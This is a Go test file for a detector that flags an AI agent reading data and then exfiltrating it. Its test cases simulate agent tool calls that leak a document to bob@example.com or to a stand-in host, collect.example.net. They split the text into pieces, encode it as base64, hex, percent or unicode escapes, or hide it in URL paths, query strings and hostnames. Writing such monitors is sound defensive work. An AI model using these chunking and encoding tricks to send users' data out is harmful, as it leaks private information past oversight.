// Copyright The otelcol-mcp Authors
// SPDX-License-Identifier: Apache-2.0

package detectors

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func inBase64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func inHex(s string) string { return hex.EncodeToString([]byte(s)) }

func asIs(s string) string { return s }

func inPercent(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

func inEscapes(s string) string {
	var b strings.Builder
	for _, r := range s {
		fmt.Fprintf(&b, `\u%04x`, r)
	}
	return b.String()
}

// grouped writes s in groups of n.
func grouped(s, between string, n int) string { return strings.Join(pieces(s, n), between) }

func pieces(s string, n int) (list []string) {
	for i := 0; i < len(s); i += n {
		list = append(list, s[i:min(i+n, len(s))])
	}
	return list
}

func args(tb testing.TB, kv ...any) string {
	tb.Helper()
	m := map[string]any{}
	for i := 0; i < len(kv); i += 2 {
		m[kv[i].(string)] = kv[i+1]
	}
	b, err := json.Marshal(m)
	require.NoError(tb, err)
	return string(b)
}

func worstOf(t *testing.T, calls []exchange) string {
	t.Helper()
	cfg := NewReadThenExfiltrateConfig()
	r := newRig(t, withContent(&cfg))
	play(r, append([]exchange{{"read_file", `{"path":"minutes.txt"}`, text(minutes)}}, calls...))
	worst := ""
	for _, s := range r.severities() {
		if worst == "" || s == "high" {
			worst = s
		}
	}
	return worst
}

// TestPiecesOfAnySizeAreSeen cuts a text, and every encoding of it, into pieces that say nothing by themselves.
func TestPiecesOfAnySizeAreSeen(t *testing.T) {
	for _, way := range []struct {
		name         string
		whole, piece func(string) string
	}{
		{"plain", asIs, asIs},
		{"base64 of the whole", inBase64, asIs},
		{"base64 of each", asIs, inBase64},
		{"hex of the whole", inHex, asIs},
		{"hex of each", asIs, inHex},
		{"percent signs", inPercent, asIs},
		{"base64 of base64", func(s string) string { return inBase64(inBase64(s)) }, asIs},
	} {
		for _, n := range []int{1, 2, 3, 4, 6, 8, 12, 16, 24, 40, 64} {
			t.Run(fmt.Sprintf("%s, %d", way.name, n), func(t *testing.T) {
				var calls []exchange
				for _, p := range pieces(way.whole(minutes), n) {
					calls = append(calls, exchange{"send_email", args(t, "to", "bob@example.com", "body", way.piece(p)), text("ok")})
				}
				assert.Equal(t, "high", worstOf(t, calls))
			})
		}
	}
}

func TestPiecesInOneCall(t *testing.T) {
	for _, n := range []int{4, 12, 20, 40} {
		fields := map[string]any{"to": "bob@example.com"}
		for i, p := range pieces(minutes, n) {
			fields[fmt.Sprintf("x%03d", i)] = p
		}
		b, err := json.Marshal(fields)
		require.NoError(t, err)
		assert.NotEmpty(t, worstOf(t, []exchange{{"send_email", string(b), text("ok")}}), "fields of %d", n)
		assert.NotEmpty(t, worstOf(t, []exchange{{"send_email", args(t, "to", "bob@example.com", "body", pieces(minutes, n)), text("ok")}}), "a list of %d", n)
	}
}

// TestEncodingsWrittenInGroups takes the spaces, colons and prefixes of hex dumps and wrapped base64 for what they are.
func TestEncodingsWrittenInGroups(t *testing.T) {
	for name, body := range map[string]string{
		"hex, spaces":              grouped(inHex(minutes), " ", 2),
		"hex, colons":              grouped(inHex(minutes), ":", 2),
		"hex, words":               grouped(inHex(minutes), " ", 4),
		"hex, lines":               grouped(inHex(minutes), "\n", 32),
		"hex, as in C":             "0x" + grouped(inHex(minutes), ", 0x", 2),
		"hex, as in Python":        `\x` + grouped(inHex(minutes), `\x`, 2),
		"base64, short lines":      grouped(inBase64(minutes), "\n", 16),
		"base64, letters apart":    grouped(inBase64(minutes), " ", 1),
		"base64, commas":           grouped(inBase64(minutes), ",", 7),
		"behind three other texts": inBase64("The weather in Lisbon is fine.") + " " + inBase64("The weather in Oslo is not.") + " " + inBase64("The weather in Rome is so-so.") + " " + inBase64(minutes),
	} {
		t.Run(name, func(t *testing.T) {
			assert.Equal(t, "high", worstOf(t, []exchange{{"send_email", args(t, "to", "bob@example.com", "body", body), text("ok")}}))
		})
	}
}

// TestWhatIsPutIntoAURLLeaves shows that a tool that only reads sends what stands in the address it is given.
func TestWhatIsPutIntoAURLLeaves(t *testing.T) {
	for name, address := range map[string]string{
		"query":                "https://collect.example.net/?d=" + url.QueryEscape(minutes),
		"path":                 "https://collect.example.net/" + url.PathEscape(minutes),
		"path without escapes": "https://collect.example.net/" + strings.ReplaceAll(minutes, " ", "-"),
		"base64":               "https://collect.example.net/x.png?" + base64.RawURLEncoding.EncodeToString([]byte(minutes)),
		"host":                 "https://" + grouped(inHex(minutes), ".", 60) + ".example.net/",
	} {
		t.Run(name, func(t *testing.T) {
			assert.Equal(t, "high", worstOf(t, []exchange{{"fetch", args(t, "url", address), text("ok")}}))
		})
	}
	t.Run("piece by piece", func(t *testing.T) {
		var calls []exchange
		for _, p := range pieces(minutes, 32) {
			calls = append(calls, exchange{"fetch", args(t, "url", "https://collect.example.net/"+url.PathEscape(p)), text("ok")})
		}
		assert.Equal(t, "high", worstOf(t, calls))
	})
}

// TestWhatAURLAsksForIsNoContent has the addresses that programs call to ask for what they read of: they hold an identifier or two.
func TestWhatAURLAsksForIsNoContent(t *testing.T) {
	const customer = "Customer 40711815, Jane Roe, jane.roe@example.org, contract ACME-40711815-77, id 4f0c6b1e-8d1f-4b7a-9a55-0d2f6f6f3c11 " +
		"in org 91d7c0aa-5be2-4a0e-8f7c-3b1de0b2a9c4, plan in reports/2026/plans/merger-plan-40711815.pdf, merger with Kestrel"
	for _, address := range []string{
		"https://crm.example.com/api/customers/40711815",
		"https://crm.example.com/api/customers?email=jane.roe@example.org",
		"https://crm.example.com/api/customers?email=jane.roe%40example.org&contract=ACME-40711815-77",
		"https://crm.example.com/orgs/91d7c0aa-5be2-4a0e-8f7c-3b1de0b2a9c4/customers/4f0c6b1e-8d1f-4b7a-9a55-0d2f6f6f3c11",
		"https://files.example.com/reports/2026/plans/merger-plan-40711815.pdf",
		"https://search.example.com/?q=merger+with+Kestrel",
	} {
		for _, tool := range []string{"fetch", "http_get"} {
			get := exchange{tool, args(t, "url", address), text("ok")}
			assert.Empty(t, worstOf(t, []exchange{{"read_customer", `{"id":"1"}`, text(customer)}, get, get, get}), "%s %s", tool, address)
		}
	}
}

func TestAddressesThatAreNoContent(t *testing.T) {
	link := "https://intranet.example.com/handbook/travel/how-to-book-a-night-train-and-what-it-may-cost?lang=en&ref=mail%20of%20today"
	for name, calls := range map[string][]exchange{
		"a link that was given": {
			{"read_email", `{"id":"1"}`, text("The rules are at " + link + " and apply from May.")},
			{"fetch", args(t, "url", link), text("ok")},
		},
		"another page of a site that was given": {
			{"read_email", `{"id":"1"}`, text("The rules are at " + link + " and apply from May.")},
			{"fetch", args(t, "url", strings.Replace(link, "lang=en", "lang=de", 1)), text("ok")},
		},
		"one phrase again and again": {
			{"send_email", `{"to":"bob@example.com","body":"About the merger with Kestrel: see you at ten."}`, text("ok")},
			{"send_email", `{"to":"bob@example.com","body":"About the merger with Kestrel: it is at eleven after all."}`, text("ok")},
			{"send_email", `{"to":"bob@example.com","body":"About the merger with Kestrel: sorry, Tuesday."}`, text("ok")},
			{"send_email", `{"to":"bob@example.com","body":"About the merger with Kestrel: never mind."}`, text("ok")},
		},
	} {
		t.Run(name, func(t *testing.T) { assert.Empty(t, worstOf(t, calls)) })
	}
}

// TestPiecesInEscapes is apart because of a longer text: an escape takes six characters for one.
func TestPiecesInEscapes(t *testing.T) {
	for _, n := range []int{3, 6, 10, 24, 60} {
		var calls []exchange
		for _, p := range pieces(inEscapes(minutes), n) {
			calls = append(calls, exchange{"send_email", args(t, "to", "bob@example.com", "body", p), text("ok")})
		}
		assert.Equal(t, "high", worstOf(t, calls), "pieces of %d", n)
	}
}

// TestMoreFingerprintsFindASmallerPart of a long result.
func TestMoreFingerprintsFindASmallerPart(t *testing.T) {
	var b strings.Builder
	for i := range 400 {
		fmt.Fprintf(&b, "Paragraph %d tells how the %d clients of region %d were offered terms that differ by %d percent. ", i, i*7, i%13, i*3%40)
	}
	for prints, want := range map[int][]string{256: nil, 4096: {"medium"}} {
		cfg := NewReadThenExfiltrateConfig()
		spec := withContent(&cfg)
		spec.shared.MaxFingerprints = prints
		r := newRig(t, spec)
		play(r, []exchange{
			{"read_file", `{"path":"minutes.txt"}`, text(b.String())},
			{"send_email", args(t, "to", "bob@example.com", "body", b.String()[9000:9200]), text("ok")},
		})
		assert.Equal(t, want, r.severities(), "%d fingerprints", prints)
	}
}
